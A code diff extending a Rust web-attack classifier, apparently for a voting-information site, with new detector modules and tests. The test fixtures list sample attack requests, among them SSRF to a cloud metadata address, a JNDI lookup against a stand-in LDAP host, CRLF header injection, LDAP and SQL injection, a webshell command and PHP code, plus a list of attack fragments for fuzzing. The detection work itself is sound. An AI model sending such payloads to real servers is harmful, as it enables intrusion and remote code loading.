@@ -4,19 +4,28 @@
 //! decoded, and each class of attack gives it a score by its own rules. `Judge` does the same for the requests of a log,
 //! many a second.
 
+mod base64;
+mod code;
 mod decode;
 mod gate;
 mod judge;
 mod lines;
+mod numbers;
 mod parts;
 mod patterns;
-mod rce;
+mod php;
+mod query;
+mod remote;
 mod route;
 mod scanner;
+mod session;
+mod shell;
 mod signs;
-mod sql_tokens;
+mod splitting;
 mod sqli;
+mod template;
 mod traversal;
+mod webshell;
 mod xss;
 
 pub(crate) use judge::Judge;
@@ -94,6 +103,131 @@ mod tests {
         assert!(classify(&Request { body: json, ..Request::default() }).has(Class::Sqli));
     }
 
+    #[test]
+    fn families_have_their_classes() {
+        for (target, class) in [
+            ("/doc?page=http://192.0.2.9/x.txt?", "ssrf"),
+            ("/doc?u=http://169.254.169.254/latest/meta-data/", "ssrf"),
+            ("/doc?t={{7*7}}", "template"),
+            ("/doc?t=%24%7Bjndi:ldap://192.0.2.9/a%7D", "template"),
+            ("/doc?a=x%0d%0aSet-Cookie:%20a=b", "splitting"),
+            ("/doc?user=*)(uid=*", "query"),
+            ("/login?PHPSESSID=abcdef123456", "fixation"),
+            ("/uploads/a.php?cmd=whoami", "webshell"),
+            ("/doc?a=%3C?php%20phpinfo();", "rce"),
+            ("/doc?a=PHNjcmlwdD5nbygpPC9zY3JpcHQ%2B", "xss"),
+            ("/doc?a=%27%20or%20json_extract(%27%7B%22a%22:1%7D%27,%27$.a%27)=1--", "sqli"),
+        ] {
+            assert!(classes(target).contains(&class), "{target}: {:?}", classes(target));
+        }
+    }
+
+    #[test]
+    fn ordinary_values_are_quiet() {
+        for value in [
+            "2104 GRANT AVE #A",
+            "12 Select Dr Apt 3",
+            "1 Union Sq W; Fl 2",
+            "77 Drop Forge Ln",
+            "5 Or Ct",
+            "1 Table Rock Rd",
+            "PO Box 12 -- rear door",
+            "Null",
+            "True",
+            "Update",
+            "Jean-Luc O'Neill-D'Arcy",
+            "Nguyễn Thị Hương",
+            "Müller (geb. Groß)",
+            "Žižek; Ana",
+            "محمد علي",
+            "李小龙",
+            "Ng & Lee",
+            "Ps. 23",
+            "Select from the list: \"A\" or \"B\"; then order by mail",
+            "I want to select a different precinct from the one where I live",
+            "It's 1 or 2, isn't it?",
+            "either 'yes' or 'no'",
+            "order by phone (555-0100) or mail",
+            "Drop off at table 3; call me",
+            "delete my old address & insert the new one",
+            "like 'em or not",
+            "union members' hall",
+            "having moved in 2024, where do I vote?",
+            "limit 1 per household",
+            "1+1=2",
+            "a=b",
+            "x < y and y > z",
+            "3 * (4 + 5) = 27",
+            "50% of $20 is $10",
+            "f(x)=x^2",
+            "(a) or (b)",
+            "1/2 or 3/4",
+            "#1 choice",
+            "C++ or C#",
+            "[Ward 3] {north}",
+            "Re: Fwd: your notice",
+            "~5 miles",
+            "100% sure!!",
+            "who? what? where?",
+            "Bring photo ID; passport, or license",
+            "Raleigh; NC 27601",
+            "Smith | Jones | Lee",
+            "e.g. cat & dog",
+            "A&W, AT&T, R&D",
+            "moved\r\nPhone: 555-0100\r\nDate: May 5",
+            "Please find me;\nlast name Diaz",
+            "see https://vote.example/faq?x=1",
+            "mother's maiden name: O\"Hara",
+            "Sleep(y) Hollow",
+            "Case: when will I then hear?",
+            "exec. director",
+            "system (old)",
+            "name(s) of voter(s)",
+            "voter_guide(1).pdf",
+            "my-form_v2.final.pdf",
+            "Lane; route 5; type B",
+            "Count Basie Ave",
+            "time and date (approx.)",
+            "echo park",
+            "3rd floor, c/o Host & Hill",
+            "Java Plum Ct",
+            "Python Rd",
+            "Bash St & Perl Dr",
+        ] {
+            let target = format!(
+                "/form?note={}",
+                percent_encoding::utf8_percent_encode(value, percent_encoding::NON_ALPHANUMERIC)
+            );
+            assert_eq!(classes(&target), [""; 0], "{value}");
+        }
+    }
+
+    #[test]
+    fn honest_clients_are_quiet() {
+        for target in [
+            "/arcgis/rest/services/Wards/MapServer/0/query?where=PRECINCT%3D%2712%27&outFields=*&returnGeometry=true&f=json",
+            "/arcgis/rest/services/Wards/MapServer/0/query?where=1%3D1&outFields=NAME,POP&orderByFields=NAME+ASC&resultRecordCount=50",
+            "/query?where=UPPER(NAME)+LIKE+%27%25GRANT%25%27+AND+(TYPE+IN+(%27A%27,%27B%27)+OR+POP+%3E+1000)",
+            "/query?geometry=%7B%22xmin%22:-78.9,%22ymin%22:35.8,%22spatialReference%22:%7B%22wkid%22:4326%7D%7D&geometryType=esriGeometryEnvelope",
+            "/ows?service=WFS&request=GetFeature&typeName=v:polls&CQL_FILTER=county=%27WAKE%27%20AND%20BBOX(geom,-79,35,-78,36)",
+            "/ows?service=WFS&filter=%3CFilter%3E%3CPropertyIsEqualTo%3E%3CPropertyName%3EWARD%3C/PropertyName%3E%3CLiteral%3E3%3C/Literal%3E%3C/PropertyIsEqualTo%3E%3C/Filter%3E",
+            "/odata/Polls?$filter=County%20eq%20%27O%27%27Brien%27%20and%20Open%20gt%207&$select=Name,Ward&$orderby=Name%20desc&$top=50",
+            "/login?returnUrl=https%3A%2F%2Fvote.example%2Fstatus%3Fid%3D5%26tab%3D2",
+            "/sso?redirect_uri=https%3A%2F%2Fportal.vote.example%2Fcb&client_id=web&scope=openid%20profile&response_type=code&state=af0ifjsldkj",
+            "/?utm_source=news&utm_medium=email&utm_campaign=fall-2026&ref=https%3A%2F%2Fnews.example%2Fa.php",
+            "/tiles/{z}/{x}/{y}.png",
+            "/page;v=2?a=1;id=5",
+            "/view?next=/polling-place?zip=27601",
+            "/app?token=eyJhbGciOiJub25lIn0.eyJzdWIiOiJhIn0.x",
+            "/img/{{item.image}}",
+            "/calendar?session=2026&legislative_session=long",
+            "/search?q=%22polling+place%22+-closed",
+            "/list?sort=name,-date&page[size]=20&filter[ward]=3",
+        ] {
+            assert_eq!(classes(target), [""; 0], "{target}");
+        }
+    }
+
     /// Pieces that attacks and addresses are made of.
     fn piece() -> impl Strategy<Value = String> {
         prop_oneof![
@@ -159,6 +293,44 @@ mod tests {
                 "file:",
                 "on",
                 "env",
+                "{{",
+                "7*7",
+                "${",
+                "jndi:",
+                "\r\n",
+                "set-cookie:",
+                "http/1.1",
+                "system(",
+                "base64_decode",
+                "whoami",
+                " -c",
+                "sh -c x",
+                "powershell",
+                "get-process",
+                "169.254.169.254",
+                "gopher:",
+                "phpsessid=",
+                "java.lang",
+                "process.env",
+                "__proto__",
+                "onload=",
+                "alert(",
+                ")(uid=",
+                "$ne",
+                "2147483648",
+                "sp_password",
+                "except",
+                "c99.php",
+                "cmd=",
+                "uploads/x.php",
+                "package.json",
+                "rO0ABXNyAAAA",
+                "PHNjcmlwdD54KCk8L3NjcmlwdD4",
+                "adw-script",
+                ";.shell",
+                "in boolean mode",
+                "chmod 777 a",
+                "tail -f",
             ])
             .prop_map(str::to_owned),
             "[a-z0-9 ./_-]{1,6}",
